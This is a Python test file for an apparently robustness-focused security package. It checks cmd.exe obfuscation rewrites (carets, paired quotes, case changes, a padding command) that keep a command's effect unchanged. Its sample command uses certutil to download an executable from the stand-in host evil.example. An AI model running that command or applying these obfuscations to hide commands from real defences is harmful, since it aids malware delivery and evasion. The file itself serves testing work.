"""cmd.exe drops carets and pairs of quotes: its documented rules, undone."""

from __future__ import annotations

import pytest

from sftsec_robust.attacks import cmd
from tests.plugins.robust.asking import Rewrite, draws

TEXT = r"cmd.exe /c certutil.exe -urlcache -f http://evil.example/a.exe C:\Users\Public\a.exe"


def as_run(text: str) -> str:
    """Carets and quotes gone, as they are when the words reach a program."""
    return text.replace("^", "").replace('"', "")


class TestRules:
    @pytest.mark.parametrize("rewrite", [cmd.cmd_carets, cmd.cmd_quotes])
    def test_programs_get_the_same_words(self, rewrite: Rewrite) -> None:
        made = set(draws(rewrite, TEXT, "cmd"))
        assert len(made) > 1
        assert {as_run(text) for text in made} == {TEXT}

    def test_names_of_programs_ignore_case(self) -> None:
        made = set(draws(cmd.cmd_case, TEXT, "cmd"))
        assert len(made) > 1
        assert {text.lower() for text in made} == {TEXT.lower()}

    def test_padding_is_a_command_before(self) -> None:
        for text in draws(cmd.cmd_pad, TEXT, "cmd"):
            head, _, tail = text.partition("& ")
            assert head.startswith("cmd.exe /c set note=")
            assert f"cmd.exe /c {tail}" == TEXT

    def test_variables_and_strings_stay(self) -> None:
        kept = '"a name" %COMSPEC% %PATH:~0,1%'
        for rewrite in (cmd.cmd_carets, cmd.cmd_quotes):
            assert set(draws(rewrite, kept, "cmd")) == {kept}
